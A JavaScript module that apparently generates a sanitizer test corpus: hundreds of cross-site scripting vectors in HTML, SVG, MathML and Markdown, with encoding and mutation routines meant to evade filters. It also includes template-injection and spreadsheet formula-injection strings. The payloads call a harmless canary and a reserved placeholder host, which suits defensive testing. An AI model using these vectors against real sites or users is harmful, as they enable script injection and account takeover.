// What a stolen account would write: scripts in every shape that browsers are known to run, each calling `kenari(N)`.
//
// `§` stands for the call, `¤` for the number alone, `␤` for a new line; `kenari.invalid` is a host that nobody may be
// asked for.

/** Chance that can be repeated: the same seed gives the same row. */
export function acak(benih) {
  let a = benih >>> 0;
  return (n) => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), a | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) % n;
  };
}

const UNSUR = String.raw`
<script>§</script>
<SCRIPT>§</SCRIPT>
<ScRiPt>§</sCrIpT>
<script >§</script >
<script/x>§</script>
<script	type=module>§</script>
<script type=text/javascript>§</script>
<script type="text/ecmascript">§</script>
<script language=javascript>§</script>
<script async defer>§</script>
<script nonce=x>§</script>
<script nonce>§</script>
<script>/*␤*/§</script>
<script>§//</script>
<script>§<!--</script>
<script><!--§</script>
<script>§</script
<scr<script>ipt>§</scr</script>ipt>
<<script>§//<</script>
<script src=//kenari.invalid/¤></script>
<script src="https://kenari.invalid/¤.js"></script>
<script src=data:,§></script>
<script src="data:text/javascript,§"></script>
<script src=data:text/javascript;base64,a2VuYXJpKDEp></script>
<script src="/data/berkas/kenari.csv"></script>
<script src="/data/berkas/kenari.csv" type=module></script>
<script src="/cari/indeks.json"></script>
<script src="/data/v1/berita.json?callback=kenari"></script>
<script src="/manifest.webmanifest"></script>
<script src="/berita/umpan.xml"></script>
<script src="." ></script>
<script type=importmap>{"imports":{"x":"data:text/javascript,§"}}</script><script type=module>import "x"</script>
<script type=module>import "data:text/javascript,§"</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//kenari.invalid/¤"]}]}</script>
<noscript><p title="</noscript><script>§</script>">
<script>eval("§")</script>
<script>setTimeout("§")</script>
<script>Function("§")()</script>
<script>document.write("<script>§<\/script>")</script>
<script>location="javascript:§"</script>
<script>import("data:text/javascript,§")</script>
<script>new Worker("data:text/javascript,§")</script>
<script>document.body.innerHTML="<img src=x onerror=§>"</script>
<script>window.onerror=kenari;throw ¤</script>
<script>onerror=kenari;throw¤</script>
<script>[¤].map(kenari)</script>
<script>kenari.call(null,¤)</script>
<script>window['ken'+'ari'](¤)</script>
<script>top["\x6b\x65\x6e\x61\x72\x69"](¤)</script>
<script>\u006b\u0065nari(¤)</script>
<svg><script>§</script></svg>
<svg><script>&#107;enari(¤)</script></svg>
<svg><script xlink:href=data:,§></script>
<svg><script href=data:,§ /></svg>
<svg><script>/*</script><b>*/§</b></svg>
<svg onload=§>
<svg/onload=§>
<svg	onload=§>
<svg␤onload=§>
<svg onload="§">
<svg onload='§'>
<svg onload=§//
<svg><g onload=§></g></svg>
<svg><animate onbegin=§ attributeName=x dur=1s></svg>
<svg><animate attributeName=x dur=.01s onend=§></svg>
<svg><animate attributeName=x dur=.01s repeatCount=2 onrepeat=§></svg>
<svg><set onbegin=§ attributename=x></svg>
<svg><animateTransform onbegin=§ attributeName=transform dur=1s></svg>
<svg><animateMotion onbegin=§ dur=1s></svg>
<svg><discard onbegin=§></svg>
<svg><a xlink:href="javascript:§"><text x=20 y=20>a</text></a></svg>
<svg><a href="javascript:§"><text x=20 y=20>a</text></a></svg>
<svg><a><animate attributeName=href values="javascript:§" /><text x=20 y=20>a</text></a></svg>
<svg><a><set attributeName="xlink:href" to="javascript:§"/><text x=20 y=20>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:§'><rect width='9' height='9'/></a></svg>#x"></use></svg>
<svg><use href=//kenari.invalid/¤.svg#x></use></svg>
<svg><image href="x" onerror=§></image></svg>
<svg><image xlink:href=//kenari.invalid/¤.png></image></svg>
<svg><foreignObject><iframe srcdoc="<script>§</script>"></iframe></foreignObject></svg>
<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload=§></foreignObject></svg>
<svg><style><img src=x onerror=§></style></svg>
<svg><title><img src=x onerror=§></title></svg>
<svg><desc><img src=x onerror=§></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=§>">
<svg><![CDATA[><img src=x onerror=§>]]></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">§</handler></svg>
<math><mtext><img src=x onerror=§></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">
<math><mi xlink:href="javascript:§">a</mi></math>
<math href="javascript:§">a</math>
<math><maction actiontype=statusline xlink:href=javascript:§>a</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>
<math><style><img src=x onerror=§></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>
<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>§</script></annotation-xml></semantics></math>
<img src=x onerror=§>
<img src=x onerror="§">
<img src=x onerror='§'>
<img src onerror=§>
<img/src/onerror=§>
<img src=x:x onerror=§>
<img """><script>§</script>">
<img src="x` + '`' + String.raw` ` + '`' + String.raw`onerror=§">
<img src=x OnErRoR=§>
<img src=x onerror	=§>
<img src=x onerror␤=§>
<img src=x onerror=&#107;enari(¤)>
<img src=x onerror=&#x6b;enari&lpar;¤&rpar;>
<img src=x onerror=&#0000107enari(¤)>
<img src=javascript:§>
<img lowsrc=javascript:§>
<img dynsrc=javascript:§>
<img srcset="x 1x" onerror=§>
<img src=//kenari.invalid/¤.png>
<img src="https://kenari.invalid/¤.png">
<img srcset="//kenari.invalid/¤.png 2x">
<img src=data:, onerror=§>
<img loading=lazy src=x onerror=§>
<img src=1 alt=a onerror=§//a
<image src=x onerror=§>
<image/src/onerror=§>
<picture><source srcset=//kenari.invalid/¤><img src=x onerror=§></picture>
<body onload=§>
<body onpageshow=§>
<body onresize=§>
<body onhashchange=§>
<body onfocus=§>
<body background=//kenari.invalid/¤.png>
<body onscroll=§><br><br><input autofocus>
<frameset onload=§>
<frameset><frame src=javascript:§></frameset>
<html onmouseover=§>
<iframe src=javascript:§></iframe>
<iframe src="javascript:parent.§"></iframe>
<iframe onload=§></iframe>
<iframe/onload=§></iframe>
<iframe srcdoc="<script>§</script>"></iframe>
<iframe srcdoc="&lt;script&gt;§&lt;/script&gt;"></iframe>
<iframe srcdoc="<img src=x onerror=parent.§>"></iframe>
<iframe src="data:text/html,<script>§</script>"></iframe>
<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>"></iframe>
<iframe src=//kenari.invalid/¤></iframe>
<iframe src="/gambar/kenari.svg"></iframe>
<iframe src=about:blank onload=§></iframe>
<iframe sandbox=allow-scripts srcdoc="<script>§</script>"></iframe>
<object data=javascript:§></object>
<object data="data:text/html,<script>§</script>"></object>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>§</script></svg>"></object>
<object data=x onerror=§></object>
<object type=text/x-scriptlet data=//kenari.invalid/¤></object>
<embed src=javascript:§>
<embed src="data:text/html,<script>§</script>">
<embed code=//kenari.invalid/¤ type=application/x-shockwave-flash>
<embed src=x onload=§>
<applet code="javascript:§"></applet>
<link rel=stylesheet href=//kenari.invalid/¤.css>
<link rel=stylesheet href="data:text/css,*{background:url(//kenari.invalid/¤)}">
<link rel=stylesheet href=x onerror=§>
<link rel=stylesheet href="/aset/gaya.css" onload=§ onerror=§>
<link rel=import href="data:text/html,<script>§</script>">
<link rel=preload as=image href=//kenari.invalid/¤ onerror=§>
<link rel=modulepreload href=//kenari.invalid/¤.js>
<link rel=prefetch href=//kenari.invalid/¤>
<link rel=dns-prefetch href=//kenari.invalid/>
<link rel=preconnect href=//kenari.invalid/>
<link rel=icon href=//kenari.invalid/¤.ico>
<link rel=manifest href=//kenari.invalid/¤.json>
<style>@import '//kenari.invalid/¤.css';</style>
<style>*{background:url(//kenari.invalid/¤.png)}</style>
<style>*{background:url(javascript:§)}</style>
<style>*{behavior:url(#default#time2)}</style>
<style onload=§></style>
<style onerror=§>@import "x"</style>
<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=§>
<style>@keyframes y{}</style><p style="animation:y .01s" onanimationend=§>
<p style="transition:color 1s" ontransitionend=§>
<p style="background:url(//kenari.invalid/¤)">
<p style="x:expression(§)">
<p style="-moz-binding:url(//kenari.invalid/¤#x)">
<base href="javascript:§//"><a href=#>a</a>
<base href=//kenari.invalid/><script src=a.js></script><img src=b.png>
<meta http-equiv=refresh content="0;url=javascript:§">
<meta http-equiv=refresh content="0;url=data:text/html,<script>§</script>">
<meta http-equiv=Set-Cookie content="a=b">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>§</script>
<a href=javascript:§>a</a>
<a href="javascript:§">a</a>
<a href=" javascript:§">a</a>
<a href="java	script:§">a</a>
<a href="java␤script:§">a</a>
<a href="JaVaScRiPt:§">a</a>
<a href="javascript&colon;§">a</a>
<a href="javascript&#58;§">a</a>
<a href="javascript&#x3a;§">a</a>
<a href="&#106;avascript:§">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:§">a</a>
<a href="java&Tab;script:§">a</a>
<a href="java&NewLine;script:§">a</a>
<a href="&#1;javascript:§">a</a>
<a href="&#14; javascript:§">a</a>
<a href="javascript://%0A§">a</a>
<a href="javascript:%6b%65nari(¤)">a</a>
<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+§//'>">a</a>
<a href="data:text/html,<script>§</script>">a</a>
<a href="vbscript:§">a</a>
<a href="blob:https://kenari.invalid/¤">a</a>
<a href=# onclick=§>a</a>
<a href=x ping=//kenari.invalid/¤>a</a>
<a target="<script>§</script>" href=x>a</a>
<a onmouseover=§>a</a>
<a href="javascript:void(0)" onmouseover=&NewLine;§>a</a>
<area shape=default coords=0,0,9,9 href=javascript:§><map name=m><area href=javascript:§></map><img usemap=#m>
<form action=javascript:§><input type=submit></form>
<form><button formaction=javascript:§>a</button></form>
<form id=f></form><button form=f formaction="javascript:§">a</button>
<form><input type=image formaction=javascript:§ src=x></form>
<form action=//kenari.invalid/¤><input type=submit></form>
<isindex action=javascript:§ type=submit value=a>
<input autofocus onfocus=§>
<input onblur=§ autofocus><input autofocus>
<input type=image src=x onerror=§>
<input type=image src=//kenari.invalid/¤>
<input type=hidden accesskey=x onclick=§>
<input type=hidden oncontentvisibilityautostatechange=§ style=content-visibility:auto>
<p oncontentvisibilityautostatechange=§ style=display:block;content-visibility:auto>
<input value="" oninput=§>
<input popovertarget=x><p popover id=x onbeforetoggle=§>a</p>
<button popovertarget=y>a</button><p popover id=y ontoggle=§>a</p>
<button autofocus onfocus=§>a</button>
<select autofocus onfocus=§></select>
<textarea autofocus onfocus=§></textarea>
<textarea><img title="</textarea><img src onerror=§>"></textarea>
<keygen autofocus onfocus=§>
<p tabindex=1 autofocus onfocus=§>a</p>
<p tabindex=1 onfocusin=§ autofocus>a</p>
<p contenteditable autofocus onfocus=§>a</p>
<details open ontoggle=§>a</details>
<details ontoggle=§ open><summary>a</summary></details>
<dialog open onclose=§><form method=dialog><button>a</button></form></dialog>
<dialog open oncancel=§>a</dialog>
<marquee onstart=§>a</marquee>
<marquee loop=1 width=0 onfinish=§>a</marquee>
<marquee onbounce=§ behavior=alternate width=1>a</marquee>
<video src=x onerror=§></video>
<video><source onerror=§ src=x></video>
<video poster=javascript:§></video>
<video poster=//kenari.invalid/¤.png></video>
<video onloadstart=§ src=x></video>
<video autoplay onplay=§><source src="data:video/mp4,x"></video>
<video><track default src=x onerror=§></video>
<audio src=x onerror=§></audio>
<audio src onloadstart=§>
<audio src=//kenari.invalid/¤.mp3 autoplay></audio>
<bgsound src=javascript:§>
<layer src=//kenari.invalid/¤.js></layer>
<xss id=x tabindex=1 onfocus=§></xss>
<xss onclick=§>a</xss>
<xss onpointerrawupdate=§>a</xss>
<custom-a onmouseover=§>a</custom-a>
<template><script>§</script></template>
<template shadowrootmode=open><script>§</script></template>
<p><template shadowrootmode=open><img src=x onerror=§></template></p>
<slot onslotchange=§><p>a</p></slot>
<table background=//kenari.invalid/¤.png><td background=javascript:§>
<table><td><script>§</script>
<table><caption><img src=x onerror=§></caption></table>
<select><template><img src=x onerror=§></template></select>
<select><option><img src=x onerror=§></select>
<noembed><img title="</noembed><img src onerror=§>"></noembed>
<noframes><img title="</noframes><img src onerror=§>"></noframes>
<xmp><img title="</xmp><img src onerror=§>"></xmp>
<plaintext><img src=x onerror=§>
<listing>&lt;img src=x onerror=§></listing>
<title><img title="</title><img src onerror=§>"></title>
<style><img title="</style><img src onerror=§>"></style>
<!--><img src=x onerror=§>-->
<!---><img src=x onerror=§>-->
<!--a--!><img src=x onerror=§>-->
<!--[if gte IE 4]><script>§</script><![endif]-->
<![CDATA[<img src=x onerror=§>]]>
<!DOCTYPE x [<!ENTITY y "<script>§</script>">]>&y;
<?xml version="1.0"?><script>§</script>
<?xml-stylesheet href="javascript:§"?>
<?php echo '<script>§</script>' ?>
<% §>%><script>§</script>
<//><img src=x onerror=§>
</><img src=x onerror=§>
</p><img src=x onerror=§>
</main></body></html><script>§</script>
<p id="x" onclick="§">a
<p id=x;onclick=§>a
<h2 id='"><script>§</script>'>a</h2>
<x onclick=§>a
<x contenteditable onbeforeinput=§>a
<x contenteditable onpaste=§>a
<x draggable=true ondragstart=§>a
<x onwheel=§>a
<x onauxclick=§>a
<x oncontextmenu=§>a
<x oncopy=§>a
<x ondblclick=§>a
<x onkeydown=§ contenteditable>a
<x onpointerenter=§>a
<x ontouchstart=§>a
<x onscrollend=§ style=overflow:auto;height:9px><br><br><br>
<x onselectionchange=§>a
<fencedframe src=//kenari.invalid/¤></fencedframe>
<portal src=javascript:§></portal>
<a id=kenari><a id=kenari name=x href=javascript:§>
<form name=body><input name=firstChild></form><img src=x onerror=§>
<img name=getElementById><script>§</script>
"><script>§</script>
'><script>§</script>
"/><script>§</script>
--><script>§</script>
]]><script>§</script>
</script><script>§</script>
</title><script>§</script>
</textarea><script>§</script>
</style><script>§</script>
</noscript><script>§</script>
</template><script>§</script>
</svg><script>§</script>
</select><script>§</script>
</iframe><script>§</script>
"}]}</script><script>§</script>
" onmouseover="§
' onmouseover='§
" onfocus=§ autofocus tabindex=1 x="
' onfocus=§ autofocus tabindex=1 x='
" style="animation:x" onanimationstart="§
x onerror=§
";§;//
';§;//
\";§;//
\u0022;§;//
-§-
';§;'
"-§-"
` + '`;§;`\n${§}\n' + String.raw`{{constructor.constructor('§')()}}
{{ "<script>§</script>" | safe }}
{% autoescape false %}<script>§</script>
</script >§
<scr\0ipt>§</scr\0ipt>
＜script＞§＜/script＞
&lt;script&gt;§&lt;/script&gt;
&amp;lt;script&amp;gt;§
&#60;script&#62;§&#60;/script&#62;
&#x3c;img src=x onerror=§&#x3e;
%3Cscript%3E§%3C/script%3E
\x3cscript\x3e§\x3c/script\x3e
\u003cscript\u003e§\u003c/script\u003e
+ADw-script+AD4-§+ADw-/script+AD4-
=HYPERLINK("javascript:§")
=cmd|'/c §'!A0
@SUM(1)*§
javascript:§
 javascript:§
java&#9;script:§
JAVASCRIPT:§
data:text/html,<script>§</script>
data:text/html;base64,PHNjcmlwdD5rZW5hcmkoMSk8L3NjcmlwdD4=
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="§"/>
vbscript:§
//kenari.invalid/¤
\\kenari.invalid\¤
/\kenari.invalid/¤
https:kenari.invalid/¤
https://go.id@kenari.invalid/¤
feed:javascript:§
view-source:javascript:§
jar:https://kenari.invalid/¤!/
filesystem:https://kenari.invalid/¤
livescript:§
mocha:§
javascript&colon;§
`;

const NASKAH = String.raw`
[a](javascript:§)
[a](javascript:§ "judul")
[a](JaVaScRiPt:§)
[a](javascript&colon;§)
[a](javascript&#58;§)
[a](&#106;avascript:§)
[a](&#x6A;avascript:§)
[a](java&Tab;script:§)
[a](java&#10;script:§)
[a](\javascript:§)
[a](javascript\:§)
[a](<javascript:§>)
[a](< javascript:§>)
[a](javascript://kenari.invalid/%0a§)
[a](data:text/html,<script>§</script>)
[a](data:text/html;base64,PHNjcmlwdD5rZW5hcmkoMSk8L3NjcmlwdD4=)
[a](vbscript:§)
[a](//kenari.invalid/¤)
[a](\\kenari.invalid\¤)
[a](https://go.id@kenari.invalid/¤)
[a](x"onmouseover="§)
[a](x'onmouseover='§)
[a](/ "x\" onmouseover=\"§")
[a](/ 'x" onmouseover="§')
[a](/ (x" onmouseover="§))
[a](/ "<script>§</script>")
[<script>§</script>](/)
[![a](x)](javascript:§)
[a](#"onclick=§)
[a](?"><script>§</script>)
[a](mailto:x"onclick=§@go.id)
[a](mailto:<script>§</script>@go.id)
[a](tel:"><script>§</script>)
![a](javascript:§)
![a](x"onerror="§)
![a" onerror="§](gambar/loket.png)
![<script>§</script>](gambar/loket.png)
![a](gambar/loket.png "x\" onload=\"§")
![a](gambar/loket.png 'x" onload="§')
![a](data:image/svg+xml,<svg onload=§>)
![a](//kenari.invalid/¤.png)
![a](https://kenari.invalid/¤.png)
![a](gambar/loket.png){onload=§}
<javascript:§>
<JAVASCRIPT:§>
<data:text/html,§>
<vbscript:§>
<https://kenari.invalid/"onclick=§>
<https://go.id/<script>§</script>>
<"onclick=§@go.id>
<x@go.id"onclick="§>
https://go.id/"onmouseover="§
https://go.id/<script>§</script>
www.go.id/"onclick=§
[a][r¤]␤␤[r¤]: javascript:§
[a][s¤]␤␤[s¤]: / "x\" onclick=\"§"
[a][t¤]␤␤[t¤]: <javascript:§> 'x'
[u¤]␤␤[u¤]: data:text/html,<script>§</script>
![a][v¤]␤␤[v¤]: x "a\" onerror=\"§"
[a"onclick="§]: /
[^<script>§</script>]: a
a[^"><script>§</script>]
a[^k¤]␤␤[^k¤]: <script>§</script>
a[^l¤]␤␤[^l¤]: [a](javascript:§)
# a {onclick=§}
# a {#"onclick="§}
# a {#x onclick="§"}
## <script>§</script>
## "onclick="§
## a <a id="x"onclick=§>
a␤= {onclick=§}
` + '```"onclick="§␤a␤```\n```<script>§</script>␤a␤```\n```html␤<script>§</script>␤```\n~~~ a" onclick="§␤a␤~~~\n`<script>§</script>`\n``` §␤</code></pre><script>§</script>␤```\n' + String.raw`
    </code></pre><script>§</script>
| <script>§</script> | b |␤|:--|--:|␤| <img src=x onerror=§> | [a](javascript:§) |
| a" onclick="§ | b |␤|---"onclick="§|---|␤| a | b |
> <script>§</script>
> [a](javascript:§)
- <script>§</script>
- [x] <img src=x onerror=§>
1. [a](javascript:§)
~~<script>§</script>~~
**<script>§</script>**
*<img src=x onerror=§>*
a␤: <script>§</script>
:::kotak "onclick="§␤<script>§</script>␤:::
:::{onclick=§}␤a␤:::
::video[a]{src=javascript:§}
{{< rawhtml >}}<script>§</script>{{< /rawhtml >}}
{{ include "<script>§</script>" }}
$$<script>§</script>$$
$\href{javascript:§}{a}$
[[javascript:§|a]]
![[x"onerror="§]]
@[a](javascript:§)
situs:x"onclick="§:berita/a
[a](situs:<script>§</script>:berita/a)
[a](unduhan/"onclick=§.pdf)
*[a]: "><script>§</script>
\<script>§\</script>
<\script>§</script>
&lt;script>§</script&gt;
<a href="javascript:§">a</a>
<img src=x onerror=§>
<svg onload=§>
a <svg onload=§> b
a<br onclick=§>b
<p markdown=1 onclick=§>a</p>
<details markdown open ontoggle=§>a</details>
<!-- <script>§</script> -->
<!-- a --><script>§</script>
<?a <script>§</script> ?>
<!A <script>§</script> >
<![CDATA[<script>§</script>]]>
<script>§</script>
<style>@import '//kenari.invalid/¤';</style>
<iframe src=javascript:§></iframe>
<math><mtext><img src=x onerror=§></mtext></math>
`;

// Every event a tag can carry, each on a tag that a browser lets carry it.
const PERISTIWA = (
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut ' +
  'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur cancel canplay canplaythrough ' +
  'change click close command contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend ' +
  'dragenter dragexit dragleave dragover dragstart drop durationchange emptied ended error focus focusin focusout ' +
  'formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup languagechange load ' +
  'loadeddata loadedmetadata loadend loadstart lostpointercapture message messageerror mousedown mouseenter ' +
  'mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play ' +
  'playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerup ' +
  'popstate progress ratechange readystatechange rejectionhandled reset resize scroll scrollend search ' +
  'securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled storage ' +
  'submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend ' +
  'transitionrun transitionstart unhandledrejection unload volumechange waiting wheel'
).split(' ');

/** Written by hand: tags first, then markdown, then one for every event. */
export function tulisan() {
  const pecah = (t) => t.split('\n').filter((b) => b.trim());
  const tag = ['p', 'a', 'input', 'svg', 'video', 'details', 'x', 'button', 'form', 'div'];
  return {
    unsur: pecah(UNSUR),
    naskah: pecah(NASKAH),
    peristiwa: PERISTIWA.map((p, n) => `<${tag[n % tag.length]} on${p}=§ tabindex=0>a`),
  };
}

const KELUAR = ['"', "'", '">', "'>", '"/>', '-->', ']]>', '</title>', '</script>', '</textarea>', '</style>', '`', '|',
  ')', '](', '}', '\\"', '&quot;', '&#34;', '\u2028', '</a>', '</p>', '</code></pre>', '</td></tr></table>'];
const BUNGKUS = ['§§', '[a](§§)', '![§§](gambar/loket.png)', '![a](gambar/loket.png "§§")', '[a](/ "§§")', '<§§>',
  '## §§', '`§§`', '| a | §§ |', '> §§', '- §§', '**§§**', '[§§](/)', 'a[^§§]', '"§§"', '[a](<§§>)', '\\§§', '~~§§~~'];
const SELA = ['\t', ' ', '\f', '/', '\u00a0', '\u200b', '\u00ad', '\u2028', '\u3000', '&Tab;', '&NewLine;', '\\'];

/** One change of a text: what filters were fooled by. */
function ubah(teks, dadu) {
  const di = dadu(teks.length + 1);
  switch (dadu(9)) {
    case 0:
      return [...teks].map((h) => (dadu(3) ? h : h.toUpperCase())).join('').replaceAll('KENARI', 'kenari');
    case 1:
      return teks.slice(0, di) + SELA[dadu(SELA.length)] + teks.slice(di);
    case 2:
      return KELUAR[dadu(KELUAR.length)] + teks;
    case 3:
      return teks.replace(/[<>"':=()]/g, (h) => (dadu(4) ? h : `&#${h.charCodeAt(0)};`));
    case 4:
      return teks.replace(/[<>"':]/g, (h) => (dadu(4) ? h : encodeURIComponent(h)));
    case 5:
      return teks.slice(0, di) + teks.slice(di + 1);
    case 6:
      return teks.replace(/</, '<'.repeat(1 + dadu(3)));
    case 7:
      return teks + KELUAR[dadu(KELUAR.length)];
    default:
      return teks.replace(/[a-z]/, (h) => `&#x${h.charCodeAt(0).toString(16)};`);
  }
}

/** Made from the written ones: two of them joined, changed a few times, and wrapped. */
export function buatan(jumlah, benih) {
  const dadu = acak(benih);
  const { unsur, naskah, peristiwa } = tulisan();
  const semua = [...unsur, ...naskah, ...peristiwa];
  const hasil = new Set();
  while (hasil.size < jumlah) {
    let teks = semua[dadu(semua.length)];
    if (dadu(4) === 0) teks += semua[dadu(semua.length)];
    for (let n = dadu(4); n > 0; n -= 1) teks = ubah(teks, dadu);
    if (dadu(2)) teks = BUNGKUS[dadu(BUNGKUS.length)].replaceAll('§§', () => teks);
    // One that lost its call cannot be seen to run.
    if (/§|¤|kenari/.test(teks) && teks.length < 600) hasil.add(teks);
  }
  return [...hasil];
}

/** The payload with its call and number. */
export const isi = (teks, nomor) => 
  teks.replaceAll('§', `kenari(${nomor})`).replaceAll('¤', String(nomor)).replaceAll('␤', '\n');

/** All payloads of a run, numbered by their place. */
export function semuaMuatan(jumlahBuatan, benih) {
  const { unsur, naskah, peristiwa } = tulisan();
  const tangan = [...unsur, ...naskah, ...peristiwa];
  return { tangan: tangan.length, daftar: [...tangan, ...buatan(jumlahBuatan, benih)].map((t, n) => isi(t, n)) };
}
